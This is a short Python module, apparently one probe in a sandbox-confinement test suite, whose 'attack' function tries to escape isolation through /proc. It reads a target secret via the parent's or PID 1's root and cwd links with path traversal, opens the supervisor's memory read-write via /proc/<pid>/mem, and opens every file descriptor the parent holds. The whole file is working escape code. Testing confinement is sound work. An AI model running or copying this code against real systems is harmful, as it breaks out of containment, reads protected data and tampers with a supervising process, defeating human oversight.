"""Reads and writes the memory of its supervisor, which is less confined, or borrows its view of the files."""

from __future__ import annotations

import contextlib
import os
from typing import Any

KIND = "read outside"


def attack(t: dict[str, Any]) -> Any:
    """Return evidence, if it worked."""
    for pid in {"1", str(os.getppid())} - {str(os.getpid())}:
        for place in (f"/proc/{pid}/root{t['secret']}", f"/proc/{pid}/cwd/../../../../../../../..{t['secret']}"):
            with contextlib.suppress(OSError), open(place) as file:
                return place, file.read()
        with contextlib.suppress(OSError, ValueError), open(f"/proc/{pid}/maps") as file:
            start = int(file.readline().split("-")[0], 16)
            with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
                memory.seek(start)
                return pid, memory.read(4)
        with contextlib.suppress(OSError):
            return [os.open(f"/proc/{pid}/fd/{number}", os.O_RDONLY) for number in os.listdir(f"/proc/{pid}/fd")]
    return None
